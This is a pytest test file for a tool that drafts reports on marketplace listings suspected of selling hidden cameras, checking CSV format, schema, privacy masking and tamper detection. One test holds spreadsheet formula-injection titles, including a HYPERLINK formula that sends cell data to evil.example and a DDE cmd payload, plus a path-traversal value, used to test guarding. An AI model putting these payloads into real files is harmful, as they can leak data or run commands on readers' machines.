"""A draft is complete or not there, says DRAFT in every row, and reads back as it was written."""

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from lenswatch.core.errors import LenswatchError, UserError
from lenswatch.core.taxonomy import Taxonomy
from lenswatch.reports import readme
from lenswatch.reports.code_lists import unnamed_codes
from lenswatch.reports.draft import TABLES, DraftReport
from lenswatch.reports.facts import FACTS_LIMIT
from lenswatch.reports.folder import publish, with_sums
from lenswatch.reports.report_columns import REPORTS
from lenswatch.reports.verify_draft import read_draft
from lenswatch.reports.wording import WordingError, finding_in, official_names

Draft = Callable[..., DraftReport]
FORM = (Path(__file__).parent / "form.txt").read_text(encoding="utf-8").split()
"""Columns that the form of the report asks for, in its order; ours may stand between them."""


def test_the_form_asks_for_these_columns_in_this_order() -> None:
    ours = [column.en for column in REPORTS.columns]

    assert [name for name in ours if name in FORM] == FORM


def test_a_column_is_filled_or_says_why_not() -> None:
    assert [c.en for table in TABLES for c in table.columns if (c.fill is None) != (c.empty is not None)] == []


def test_every_code_of_core_has_a_name_in_the_lists() -> None:
    assert unnamed_codes() == frozenset()


@pytest.mark.parametrize("name", ["ordinary", "nasty", "german", "nothing-suspicious"])
def test_a_draft_holds_by_its_own_schema(draft_case: Draft, tmp_path: Path, name: str) -> None:
    draft = draft_case(name, tmp_path)
    read = read_draft(draft.folder)

    assert read.problems == ()
    assert len(read.sheets["str_reports.csv"].rows) == draft.report_count
    assert len(read.sheets["str_items.csv"].rows) == draft.item_count
    assert len(read.sheets["str_indicators.csv"].rows) == draft.indicator_count


def test_the_sellers_words_come_back_as_they_were(draft_case: Draft, tmp_path: Path) -> None:
    items = read_draft(draft_case("nasty", tmp_path).folder).sheets["str_items.csv"]
    titles = dict(zip(items.column("listing_id"), items.column("title"), strict=True))

    assert titles["10000000000000000001"] == '=HYPERLINK("http://evil.example/?"&A1,"看") 针孔摄像头'
    assert titles["10000000000000000003"] == "\u200b=cmd|' /C calc'!A0 针孔摄像头"
    assert titles["10000000000000000004"] == "'=已带撇号的标题 针孔摄像头"
    assert titles["10000000000000000005"] == '-50% 针孔;摄像头;"特价",包邮\r\n第二行\n第三行'


def test_context_and_original_characters_are_the_seller_s_text(draft_case: Draft, tmp_path: Path) -> None:
    sheet = read_draft(draft_case("ordinary", tmp_path).folder).sheets["str_indicators.csv"]
    columns = (sheet.column(name) for name in ("context_before", "matched", "context_after"))

    assert "多功能充电头 超小的针 孔摄象头 手机看实时画面" in {"".join(row) for row in zip(*columns, strict=True)}


def test_every_row_of_every_table_says_draft_and_that_people_decide(draft_case: Draft, tmp_path: Path) -> None:
    sheets = read_draft(draft_case("nasty", tmp_path).folder).sheets
    reports = sheets["str_reports.csv"]

    assert {cell for sheet in sheets.values() for cell in sheet.column("status")} == {"DRAFT"}
    assert {(*row,) for row in zip(*map(reports.column, ("automated_decision", "determination")), strict=True)} == {
        ("NOT", "none")
    }
    assert set(reports.column("proposed_action")) == {"REVIEW"}


def test_every_field_is_quoted_every_line_ends_in_crlf_and_a_mark_tells_utf_8(
    draft_case: Draft, tmp_path: Path
) -> None:
    data = (draft_case("ordinary", tmp_path).folder / "str_indicators.csv").read_bytes()
    lines = data.decode("utf-8-sig").split("\r\n")

    assert data.startswith(b"\xef\xbb\xbf")
    assert lines.pop() == ""
    assert all(line.startswith('"') and line.endswith('"') and '",,' not in line for line in lines)


@pytest.mark.parametrize(("header", "first"), [("both", "报告编号|report_id"), ("zh", "报告编号"), ("en", "report_id")])
def test_heads_come_in_both_languages_or_one(draft_case: Draft, tmp_path: Path, header: str, first: str) -> None:
    draft = draft_case("ordinary", tmp_path, header=header)
    text = (draft.folder / "str_reports.csv").read_text(encoding="utf-8-sig")

    assert next(csv.reader(io.StringIO(text)))[0] == first
    assert read_draft(draft.folder).problems == ()


def test_facts_name_what_is_unknown_and_what_speaks_against(draft_case: Draft, tmp_path: Path) -> None:
    (facts,) = read_draft(draft_case("ordinary", tmp_path).folder).sheets["str_reports.csv"].column("facts")

    assert "「针 孔摄象头」" in facts
    assert "有待查明的要件：无线传输 WIRELESS" in facts
    assert "不支持怀疑的信号：镜头可见 VISIBLE_LENS" in facts
    assert "只能由公安机关" in facts


def test_facts_mask_telephone_numbers_and_addresses(draft_case: Draft, tmp_path: Path) -> None:
    reports = read_draft(draft_case("nasty", tmp_path).folder).sheets["str_reports.csv"]

    assert not any("13800001234" in facts or "mail.example" in facts for facts in reports.column("facts"))


def test_no_cell_carries_a_person_s_identity_number(draft_case: Draft, tmp_path: Path) -> None:
    draft = draft_case("nasty", tmp_path)

    assert not any(b"11010519491231002X" in path.read_bytes() for path in draft.files)


def test_the_same_state_gives_the_same_bytes_and_the_same_folder(draft_case: Draft, tmp_path: Path) -> None:
    first, again = draft_case("nasty", tmp_path), draft_case("nasty", tmp_path)
    elsewhere = draft_case("nasty", tmp_path / "elsewhere")

    assert first == again
    assert [p.read_bytes() for p in first.files] == [p.read_bytes() for p in elsewhere.files]


def test_a_draft_that_somebody_worked_in_is_never_overwritten(draft_case: Draft, tmp_path: Path) -> None:
    first = draft_case("ordinary", tmp_path)
    (first.folder / "str_reports.csv").write_text("my notes", encoding="utf-8")
    second = draft_case("ordinary", tmp_path)

    assert (first.folder / "str_reports.csv").read_text(encoding="utf-8") == "my notes"
    assert second.folder.name == f"{first.folder.name}-2"


def test_a_finding_keeps_the_draft_from_being_written(
    draft_case: Draft, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(readme, "readme", lambda *_, **__: "这些商品违法")

    with pytest.raises(WordingError, match="README_zh"):
        draft_case("ordinary", tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_a_draft_that_fails_its_check_is_never_visible(tmp_path: Path) -> None:
    def refuse(aside: Path) -> None:
        assert (aside / "a.csv").exists()
        raise LenswatchError("no")

    with pytest.raises(LenswatchError):
        publish(tmp_path / "drafts" / "S1", with_sums({"a.csv": b"1"}), refuse)
    assert list((tmp_path / "drafts").iterdir()) == []


def test_a_place_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    (tmp_path / "drafts").write_text("a file, not a folder", encoding="utf-8")

    with pytest.raises(UserError, match="drafts"):
        publish(tmp_path / "drafts" / "S1", with_sums({"a.csv": b"1"}), lambda _: None)


def spoil(folder: Path, file: str, old: str, new: str) -> list[str]:
    path = folder / file
    path.write_bytes(path.read_bytes().replace(old.encode(), new.encode()))
    return [str(problem) for problem in read_draft(folder).problems]


@pytest.mark.parametrize(
    ("old", "new", "complaint"),
    [
        ('"DRAFT"', '"FINAL"', "row 2, status: holds FINAL, which its code list does not know"),
        ("000001-5", "000002-5", "is not a report number, or its check character does not fit"),
        ('"0.9731"', '"high"', "row 2, max_score: is not of the kind decimal"),
        ("2026-11-22T02:10:00+08:00", "2026-11-22 02:10", "generated_at: is not of the kind dateTime"),
        ('"晴川数码配件"', '"=1+1"', "shop_name: is not guarded as the schema says"),
        ("报告编号|report_id", "报告编号", "row 1: the heads are not those of the schema"),
        ('"NEW",', "", "row 2: has 69 cells, not 70"),
        ('"2","0.9731"', '"3","0.9731"', "does not have 3 rows"),
    ],
)
def test_what_was_changed_is_found(draft_case: Draft, tmp_path: Path, old: str, new: str, complaint: str) -> None:
    problems = spoil(draft_case("ordinary", tmp_path).folder, "str_reports.csv", old, new)

    assert "str_reports.csv: has changed since the draft was written" in problems
    assert any(complaint in problem for problem in problems)


def test_a_file_too_many_or_too_few_is_found(draft_case: Draft, tmp_path: Path) -> None:
    folder = draft_case("ordinary", tmp_path).folder
    (folder / "README_en.txt").rename(folder / "notes.txt")
    problems = [str(problem) for problem in read_draft(folder).problems]

    assert problems == [
        "README_en.txt: is listed in SHA256SUMS but missing",
        "notes.txt: is not listed in SHA256SUMS",
    ]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"str_items.csv"', '"../../secret.csv"'),
        ('"str_items.csv"', '"str_other.csv"'),
        ('"name": "item_count"', '"name": "count"'),
        ('"code_list": "band"', '"code_list": "nothing"'),
        ('"tables"', '"tabels"'),
    ],
)
def test_a_schema_that_is_none_of_ours_is_refused(draft_case: Draft, tmp_path: Path, old: str, new: str) -> None:
    folder = draft_case("ordinary", tmp_path).folder

    with pytest.raises(UserError, match=r"schema\.json"):
        spoil(folder, "schema.json", old, new)


@pytest.mark.parametrize("file", ["schema.json", "SHA256SUMS", "str_items.csv"])
def test_a_missing_file_is_named(draft_case: Draft, tmp_path: Path, file: str) -> None:
    folder = draft_case("ordinary", tmp_path).folder
    (folder / file).unlink()

    with pytest.raises(UserError, match=file):
        read_draft(folder)


def test_a_table_in_another_encoding_is_refused(draft_case: Draft, tmp_path: Path) -> None:
    folder = draft_case("ordinary", tmp_path).folder
    (folder / "str_items.csv").write_bytes("报告编号".encode("gbk"))

    with pytest.raises(UserError, match=r"str_items\.csv: not a readable CSV"):
        read_draft(folder)


def test_no_text_of_ours_states_a_finding(draft_case: Draft, tmp_path: Path) -> None:
    folder = draft_case("nasty", tmp_path).folder
    names = official_names(Taxonomy.load())
    ours = [(folder / file).read_text(encoding="utf-8") for file in ("README_zh.txt", "README_en.txt", "schema.json")]
    reports = read_draft(folder).sheets["str_reports.csv"]

    assert [finding_in(text, names) for text in [*ours, *reports.column("facts")] if finding_in(text, names)] == []


def test_facts_stay_within_their_length(draft_case: Draft, tmp_path: Path) -> None:
    facts = read_draft(draft_case("crowded", tmp_path).folder).sheets["str_reports.csv"].column("facts")

    assert [len(text) <= FACTS_LIMIT for text in facts] == [True]
    assert "件疑似商品未在此列出" in facts[0]
    assert facts[0].endswith("依法认定。")
